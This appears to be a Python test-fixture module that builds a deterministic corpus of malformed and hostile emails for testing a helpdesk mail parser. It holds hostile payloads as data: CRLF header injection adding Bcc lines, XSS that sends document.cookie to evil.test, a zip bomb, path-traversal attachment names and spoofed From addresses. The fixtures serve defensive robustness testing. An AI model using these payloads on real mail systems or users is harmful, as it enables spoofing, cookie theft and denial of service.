"""A deterministic corpus of malformed and hostile messages (issue 7).

``corpus(seed)`` returns the same bytes for the same arguments: a fixed seed drives every
choice, and no clock or hash randomisation is read. Each message carries a unique body marker
(``BODYMARK`` + number) so a test can prove that no body text leaks into an acknowledgment or a
log line, and (unless its kind is about a missing or duplicated Message-ID) a unique
Message-ID so that no two messages dedupe into one.

The first message is a plain, legitimate request from ``harborviewdental.com``: the anchor
whose work order the ``forged_tag`` messages (other clients) claim to answer. On an empty
database it becomes ``ITX-000001``.
"""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

ANCHOR_DOMAIN = "harborviewdental.com"
ANCHOR_MID = "anchor-1@harborviewdental.com"
ANCHOR_TAG = "[ITX-000001]"
BODY_MARKER = "BODYMARK"
NAME_MARKER = "NAMEMARK"
BIG_ATTACHMENT = 30 * 1024 * 1024

REQUEST_TEXTS = [
    "I am locked out of my email account, please reset my password.",
    "Our website is down and shows a 503 error, clients cannot reach the portal.",
    "The office printer does not print, please set it up again on the new laptop.",
    "QuickBooks says the company file is damaged and will not open.",
    "Please create an email account for our new hire starting Monday.",
    "The server in the back office is not responding since this morning.",
]


@dataclass(frozen=True)
class Hostile:
    kind: str
    raw: bytes
    message_id: str | None  # as written (without brackets); None when absent or not unique
    marker: str  # the unique body marker, e.g. BODYMARK0042


def _head(n: int, *, frm: str | None = None, subject: str | None = None,
          mid: str | None = "auto", extra: str = "",
          ctype: str | None = "text/plain; charset=utf-8") -> tuple[str, str | None]:
    frm = frm if frm is not None else f"Client {n} <c{n}@client{n % 17}.test>"
    subject = subject if subject is not None else f"help needed {n}"
    mid_value = f"h{n}@hostile.test" if mid == "auto" else mid
    lines = [f"From: {frm}", "To: helpdesk@itx.net", f"Subject: {subject}",
             "Date: Wed, 25 Nov 2026 14:00:00 -0500"]
    if mid_value is not None:
        lines.append(f"Message-ID: <{mid_value}>")
    lines.append("MIME-Version: 1.0")
    if ctype is not None:
        lines.append(f"Content-Type: {ctype}")
    head = "\r\n".join(lines) + "\r\n" + extra
    return head, mid_value


def _body(n: int, rnd: random.Random) -> str:
    return f"{rnd.choice(REQUEST_TEXTS)} {BODY_MARKER}{n:04d}"


# ---- kinds ---------------------------------------------------------------------------------
# Each maker: (n, rnd) -> (raw, message_id). ``n`` is unique in the corpus.
Maker = Callable[[int, random.Random], tuple[bytes, str | None]]


def broken_base64(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    head, mid = _head(n, extra="Content-Transfer-Encoding: base64\r\n")
    good = base64.b64encode(_body(n, rnd).encode()).decode()
    variants = [good[:-3], "%%%not base64%%%" + good, good[:10] + "\x00\x01" + good[10:],
                "=" * 40, good.replace("A", "*"), good + "====" + good]
    return (head + "\r\n" + rnd.choice(variants) + "\r\n").encode("latin-1"), mid


def broken_qp(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    head, mid = _head(n, extra="Content-Transfer-Encoding: quoted-printable\r\n")
    bad = rnd.choice(["=ZZ=Q", "=\r\n=", "=E9=", "=0", "==41", "=C3=28=A0=A1", "=\x00="])
    return (head + "\r\n" + _body(n, rnd) + " " + bad + "\r\n").encode("latin-1"), mid


def unknown_charset(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    cs = rnd.choice(["x-unknown", "utf-99", "klingon", "", '"', "utf-8\x00", "../../etc"])
    head, mid = _head(n, subject=f"=?{cs or 'x'}?q?caf=E9_{n}?=",
                      ctype=f"text/plain; charset={cs}")
    return (head + "\r\n").encode("latin-1") + _body(n, rnd).encode() + b" caf\xe9\r\n", mid


def lying_charset(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    declared, actual = rnd.choice([("utf-8", "latin-1"), ("us-ascii", "utf-8"),
                                   ("utf-16", "utf-8"), ("iso-2022-jp", "cp1252"),
                                   ("utf-8", "utf-16")])
    head, mid = _head(n, ctype=f"text/plain; charset={declared}")
    text = _body(n, rnd) + " Grüße, señor — ça marche pas"
    return (head + "\r\n").encode() + text.encode(actual, errors="replace") + b"\r\n", mid


def eight_bit_headers(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    subject = rnd.choice(["Pröblem mit Drücker".encode("latin-1"),
                          "Ошибка сервера".encode(), b"\xff\xfe\x80\x81 broken",
                          "café".encode("cp1252")])
    name = rnd.choice(["Jürgen Müller".encode("latin-1"), "Zoë".encode(), b"\xc3\x28"])
    head = (b"From: " + name + f" {NAME_MARKER}{n} <u{n}@eightbit.test>\r\n".encode()
            + b"To: helpdesk@itx.net\r\nSubject: " + subject + f" {n}\r\n".encode()
            + f"Message-ID: <h{n}@hostile.test>\r\n".encode()
            + b"Content-Type: text/plain\r\n\r\n")
    return head + _body(n, rnd).encode() + b"\r\n", f"h{n}@hostile.test"


def deep_multipart(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    depth = rnd.choice([50, 50, 120])
    head, mid = _head(n, ctype='multipart/mixed; boundary="b0"')
    parts = [head, "\r\n"]
    for d in range(depth):
        parts.append(f'--b{d}\r\nContent-Type: multipart/mixed; boundary="b{d + 1}"\r\n\r\n')
    parts.append(f"--b{depth}\r\nContent-Type: text/plain\r\n\r\n{_body(n, rnd)}\r\n")
    if rnd.random() < 0.5:  # closed properly, or left dangling
        parts.extend(f"--b{d}--\r\n" for d in range(depth, -1, -1))
    return "".join(parts).encode(), mid


def missing_headers(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["from", "subject", "mid", "date", "all-but-subject", "none", "ctype"])
    if which == "none":
        return f"\r\n{_body(n, rnd)}\r\n".encode(), None
    if which == "all-but-subject":
        return f"Subject: only a subject {n}\r\n\r\n{_body(n, rnd)}\r\n".encode(), None
    head, mid = _head(n, mid=None if which == "mid" else "auto",
                      ctype=None if which == "ctype" else "text/plain; charset=utf-8")
    lines = head.split("\r\n")
    drop = {"from": "From:", "subject": "Subject:", "date": "Date:"}.get(which)
    if drop:
        lines = [x for x in lines if not x.startswith(drop)]
    return ("\r\n".join(lines) + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


def duplicate_headers(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["From", "Subject", "Message-ID", "Content-Type", "To"])
    head, mid = _head(n)
    values = {"From": f"Other <other{n}@elsewhere.test>", "Subject": f"second subject {n}",
              "Message-ID": f"<h{n}-second@hostile.test>", "To": "victim@victim.test",
              "Content-Type": 'multipart/mixed; boundary="nope"'}
    head += f"{which}: {values[which]}\r\n"
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


def header_injection(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    inj = rnd.choice([
        "=?utf-8?q?Printer_broken=0D=0ABcc:_victim@evil.test?=",
        "=?utf-8?b?" + base64.b64encode(b"Reset\r\nBcc: victim@evil.test\r\n\r\nX").decode() + "?=",
        "=?utf-8?q?hello=0ASubject:_pwned?=",
        "=?utf-8?q?a=0D=0AContent-Type:_text/html=0D=0A=0D=0A<script>alert(1)</script>?=",
        "Printer\r broken Bcc: victim@evil.test",
    ])
    name = rnd.choice([f"=?utf-8?q?Eve=0D=0ABcc:_x@evil.test_{NAME_MARKER}{n}?=",
                       f'"Eve\\r\\nBcc: x@evil.test {NAME_MARKER}{n}"', f"Eve {NAME_MARKER}{n}"])
    head, mid = _head(n, frm=f"{name} <e{n}@inject.test>", subject=inj)
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


def nul_bytes(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    html = rnd.random() < 0.5
    ctype = "text/html; charset=utf-8" if html else "text/plain; charset=utf-8"
    head, mid = _head(n, subject=f"nul\x00in subject {n}", frm=f"Nul\x00 <n{n}@nul.test>",
                      ctype=ctype)
    body = _body(n, rnd).replace(" ", "\x00 ", 3)
    if html:
        body = f"<p>{body}</p>"
    return (head + "\r\n" + body + "\x00\x00\r\n").encode(), mid


def zip_bomb(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    """A small zip that expands big (or claims to): only ever stored, never opened."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("zeros.bin", b"\x00" * (8 * 1024 * 1024))
        inner = buf.getvalue()
        z.writestr("nested.zip", inner * 4)
    data = bytearray(buf.getvalue())
    if rnd.random() < 0.5:  # lie in the local header: claim 4 GiB uncompressed
        data[22:26] = struct.pack("<I", 0xFFFFFFFF)
    payload = base64.encodebytes(bytes(data)).decode().replace("\n", "\r\n")
    head, mid = _head(n, ctype='multipart/mixed; boundary="ZB"')
    raw = (head + "\r\n--ZB\r\nContent-Type: text/plain\r\n\r\n" + _body(n, rnd) + "\r\n"
           "--ZB\r\nContent-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n"
           f'Content-Disposition: attachment; filename="bomb{n}.zip"\r\n\r\n'
           + payload + "--ZB--\r\n")
    return raw.encode(), mid


def long_lines(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["body", "subject", "header", "refs"])
    if which == "subject":
        head, mid = _head(n, subject="S" * 100_000)
    elif which == "header":
        head, mid = _head(n, extra="X-Long: " + "x" * 200_000 + "\r\n")
    elif which == "refs":
        refs = " ".join(f"<r{i}.{n}@refs.test>" for i in range(5000))
        head, mid = _head(n, extra=f"References: {refs}\r\n")
    else:
        head, mid = _head(n)
    body = _body(n, rnd) + (" " + "y" * 1_000_000 if which == "body" else "")
    return (head + "\r\n" + body + "\r\n").encode(), mid


def html_script(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    subject = rnd.choice(["<script>alert(1)</script> printer",
                          '"><img src=x onerror=alert(1)> site down', "normal subject"])
    head, mid = _head(n, subject=f"{subject} {n}", ctype="text/html; charset=utf-8")
    html = (f"<html><head><script>document.location='http://evil.test/'+document.cookie"
            f"</script></head><body onload=alert(1)><p>{_body(n, rnd)}</p>"
            "<a href='javascript:alert(1)'>click</a><iframe src=//evil.test></iframe>"
            "<style>body{background:url(javascript:alert(1))}</style></body></html>")
    return (head + "\r\n" + html + "\r\n").encode(), mid


def forged_auto_submitted(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    value = rnd.choice(["auto-replied", "auto-generated", "no", "NO", "  no  ", "auto-notified",
                        "x\r\n Bcc: v@evil.test", ""])
    head, mid = _head(n, extra=f"Auto-Submitted: {value}\r\n")
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


def forged_tag(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    """Another client's mail claiming the anchor's work order (or an invented one)."""
    tag = rnd.choice([ANCHOR_TAG, ANCHOR_TAG, "[ITX-999999]", "[ITX-000001][ITX-000002]"])
    head, mid = _head(n, frm=f"Mallory <m{n}@mallory{n % 3}.test>",
                      subject=f"Re: {rnd.choice(REQUEST_TEXTS)[:40]} {tag}")
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


def garbage(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["binary", "empty", "spaces", "colonless", "bom", "utf16"])
    if which == "binary":
        return bytes(rnd.randrange(256) for _ in range(512)) + f" {n}".encode(), None
    if which == "empty":
        return b"\r\n" * (1 + n % 3), None
    if which == "spaces":
        return b" \t " * (1 + n % 5) + b"\r\n", None
    if which == "colonless":
        text = f"this is not a header line {n}\r\nnor this\r\n\r\n{_body(n, rnd)}\r\n"
        return text.encode(), None
    head, mid = _head(n)
    if which == "bom":
        return b"\xef\xbb\xbf" + (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode("utf-16"), None


def bad_attachments(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    filename = rnd.choice(["../../../etc/passwd", "C:\\Windows\\system32\\evil.dll",
                           "a\x00b.exe", "x" * 2000 + ".pdf", "", ".", "..",
                           "=?utf-8?q?=0D=0Aevil.txt?=", "invoice.pdf\r\n.exe"])
    encoded = rnd.choice(["base64", "quoted-printable", "x-uuencode", "7bit", "bogus"])
    head, mid = _head(n, ctype='multipart/mixed; boundary="AT"')
    raw = (head + "\r\n--AT\r\nContent-Type: text/plain\r\n\r\n" + _body(n, rnd) + "\r\n"
           f"--AT\r\nContent-Type: application/octet-stream; name=\"{filename}\"\r\n"
           f"Content-Transfer-Encoding: {encoded}\r\n"
           f"Content-Disposition: attachment; filename*=utf-8''{filename}\r\n\r\n"
           "AAAA!!!!\r\n--AT--\r\n")
    return raw.encode("utf-8", errors="surrogateescape"), mid


def bad_structure(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["no-boundary", "unclosed", "rfc822", "report", "bad-ctype", "bad-date",
                        "bad-mid", "folded-forever"])
    if which == "no-boundary":
        head, mid = _head(n, ctype="multipart/mixed")
    elif which == "unclosed":
        head, mid = _head(n, ctype='multipart/alternative; boundary="U"')
        return (head + "\r\n--U\r\nContent-Type: text/plain\r\n\r\n" + _body(n, rnd)).encode(), mid
    elif which == "rfc822":
        inner, _ = _head(n + 100_000, subject="inner\r\n")
        head, mid = _head(n, ctype="message/rfc822")
        return (head + "\r\n" + inner + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid
    elif which == "report":
        head, mid = _head(n, ctype='multipart/report; report-type=delivery-status; boundary="R"')
        return (head + "\r\n--R\r\nContent-Type: message/delivery-status\r\n\r\n"
                "Status: 5.0.0\r\n\r\n" + _body(n, rnd) + "\r\n--R--\r\n").encode(), mid
    elif which == "bad-ctype":
        head, mid = _head(n, ctype=';;;==="; boundary; charset=;/')
    elif which == "bad-date":
        head, mid = _head(n)
        head = head.replace("Date: Wed, 25 Nov 2026 14:00:00 -0500", "Date: 99 Foo 99999 99:99")
    elif which == "bad-mid":
        head, _ = _head(n, mid=None)
        head += f"Message-ID: <<<{n}@@@>>> <\r\n"
        mid = None
    else:
        head, mid = _head(n, extra="X-Fold: a\r\n" + " b\r\n" * 5000)
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


# ---- issue 14: odd real-world mail (items 2, 3 and 6) ----------------------------------------
def encoded_word(i: int) -> str:
    return "=?utf-8?b?" + base64.b64encode(f"Jürgen Müller {i}".encode()).decode() + "?="


def address_header(count: int, name: str = "To") -> str:
    """An address list of ``count`` encoded-word names: 2,850 make about 180 KB, the size
    that took the stdlib header parser quadratic time and memory (issue 14 item 2)."""
    return f"{name}: " + ",\r\n ".join(f"{encoded_word(i)} <u{i}@list.test>"
                                        for i in range(count)) + "\r\n"


def huge_headers(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    which = rnd.choice(["to-2850", "to-6000", "cc-many-fields", "from-name", "many-fields",
                        "subject-words"])
    head, mid = _head(n)
    if which.startswith("to-"):
        head = head.replace("To: helpdesk@itx.net\r\n", address_header(int(which[3:])))
    elif which == "cc-many-fields":
        head += address_header(300, "Cc") * 20
    elif which == "from-name":  # one address whose display name is 3,000 encoded words
        name = " ".join(encoded_word(i) for i in range(3000))
        head = head.replace(f"From: Client {n} <c{n}@client{n % 17}.test>",
                            f"From: {name} <c{n}@client{n % 17}.test>")
    elif which == "many-fields":  # 20,000 fields before the ones that matter
        head = "".join(f"X-Junk-{i}: {encoded_word(i)}\r\n" for i in range(20_000)) + head
    else:
        head += "X-Words: " + " ".join(encoded_word(i) for i in range(8000)) + "\r\n"
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


FRONT_DOOR = ("bom", "mbox", "obsolete-colon", "bom-mbox-obsolete", "lf-mbox")


def front_door(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    """Readable mail the stdlib parser misreads at the first line (issue 14 item 3)."""
    which = rnd.choice(FRONT_DOOR)
    head, mid = _head(n)
    if "obsolete" in which:
        head = head.replace("Subject:", "Subject :").replace("Message-ID:", "Message-ID\t:")
    raw = head + "\r\n" + _body(n, rnd) + "\r\n"
    if "mbox" in which:
        raw = f"From c{n}@client{n % 17}.test Wed Nov 25 19:00:00 2026\r\n" + raw
    if which == "lf-mbox":
        raw = raw.replace("\r\n", "\n")
    data = raw.encode()
    return (b"\xef\xbb\xbf" + data if "bom" in which else data), mid


OLE2_MSG = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
            + b"\x09\x00\x06\x00" + b"\x00" * 10 + b"\x01\x00\x00\x00" + bytes(range(256)) * 8)


def headerless(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    """What truly has no header, and stays quarantined."""
    which = rnd.choice(["empty", "outlook-msg", "plain-text", "text-with-colon"])
    if which == "empty":
        return b"", None
    if which == "outlook-msg":
        return OLE2_MSG + f"Subject: {n}".encode(), None
    if which == "plain-text":
        return f"Hello, {_body(n, rnd)}\r\nThanks, Dana\r\n".encode(), None
    return f"Note to self : {_body(n, rnd)}\r\n".encode(), None


# (From value, whether it names one sender unambiguously). The first is issue 14's case.
AMBIGUOUS_FROM = [
    f"dana@{ANCHOR_DOMAIN} <attacker@evil.test>",
    f"Dana <dana@{ANCHOR_DOMAIN}>, <attacker@evil.test>",
    f"dana@{ANCHOR_DOMAIN}, attacker@evil.test",
    f'"dana@{ANCHOR_DOMAIN}" <attacker@evil.test>',
    f"=?utf-8?q?dana=40{ANCHOR_DOMAIN}?= <attacker@evil.test>",
    f"attacker@evil.test (dana@{ANCHOR_DOMAIN})",
    '"v1@a.test,v2@b.test"',
    '"v1@a.test,v2@b.test"@evil.test',
    f"Dana <dana@{ANCHOR_DOMAIN}> <attacker@evil.test>",
    f"<@{ANCHOR_DOMAIN}:attacker@evil.test>",
    f'"Dana <dana@{ANCHOR_DOMAIN}>',
    f"Dana <dana@{ANCHOR_DOMAIN}",
    "undisclosed-recipients:;",
]


def ambiguous_from(n: int, rnd: random.Random) -> tuple[bytes, str | None]:
    """A From that does not name one sender unambiguously (issue 14 item 6), half of them
    answering the anchor's work order as if they were its requester."""
    frm = rnd.choice(AMBIGUOUS_FROM)
    extra = f"In-Reply-To: <{ANCHOR_MID}>\r\n" if rnd.random() < 0.5 else ""
    subject = f"Re: Locked out of my email {ANCHOR_TAG}" if extra else None
    head, mid = _head(n, frm=frm, subject=subject, extra=extra)
    return (head + "\r\n" + _body(n, rnd) + "\r\n").encode(), mid


KINDS: dict[str, Maker] = {
    "broken_base64": broken_base64,
    "broken_qp": broken_qp,
    "unknown_charset": unknown_charset,
    "lying_charset": lying_charset,
    "eight_bit_headers": eight_bit_headers,
    "deep_multipart": deep_multipart,
    "missing_headers": missing_headers,
    "duplicate_headers": duplicate_headers,
    "header_injection": header_injection,
    "nul_bytes": nul_bytes,
    "zip_bomb": zip_bomb,
    "long_lines": long_lines,
    "html_script": html_script,
    "forged_auto_submitted": forged_auto_submitted,
    "forged_tag": forged_tag,
    "garbage": garbage,
    "bad_attachments": bad_attachments,
    "bad_structure": bad_structure,
    "huge_headers": huge_headers,
    "front_door": front_door,
    "headerless": headerless,
    "ambiguous_from": ambiguous_from,
}


def anchor() -> Hostile:
    raw = (f"From: Dana Whitfield <dana@{ANCHOR_DOMAIN}>\r\nTo: helpdesk@itx.net\r\n"
           "Subject: Locked out of my email\r\nDate: Wed, 25 Nov 2026 13:00:00 -0500\r\n"
           f"Message-ID: <{ANCHOR_MID}>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
           "Hi, I typed my password wrong too many times and now Outlook says my account is "
           f"locked. Can you reset my password please? {BODY_MARKER}0000\r\n").encode()
    return Hostile("anchor", raw, ANCHOR_MID, f"{BODY_MARKER}0000")


def big_attachment(n: int) -> Hostile:
    """One 30 MB attachment (about 41 MB on the wire, base64)."""
    head, mid = _head(n, ctype='multipart/mixed; boundary="BIG"')
    line = b"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\r\n"
    count = BIG_ATTACHMENT // 57 + 1  # 76 base64 chars = 57 bytes
    marker = f"{BODY_MARKER}{n:04d}"
    raw = ((head + f"\r\n--BIG\r\nContent-Type: text/plain\r\n\r\nscan attached {marker}\r\n"
            "--BIG\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
            'Content-Disposition: attachment; filename="scan.pdf"\r\n\r\n').encode()
           + line * count + b"--BIG--\r\n")
    return Hostile("big_attachment", raw, mid, marker)


def corpus(seed: int = 7, *, per_kind: int = 12, big: int = 1) -> list[Hostile]:
    """The anchor, then ``per_kind`` messages of each kind (interleaved), then ``big`` 30 MB
    attachments. Default: 1 + 22 * 12 + 1 = 266 messages."""
    rnd = random.Random(seed)
    out = [anchor()]
    n = 1
    for _ in range(per_kind):
        for kind, make in KINDS.items():
            raw, mid = make(n, rnd)
            out.append(Hostile(kind, raw, mid, f"{BODY_MARKER}{n:04d}"))
            n += 1
    for _ in range(big):
        out.append(big_attachment(n))
        n += 1
    return out
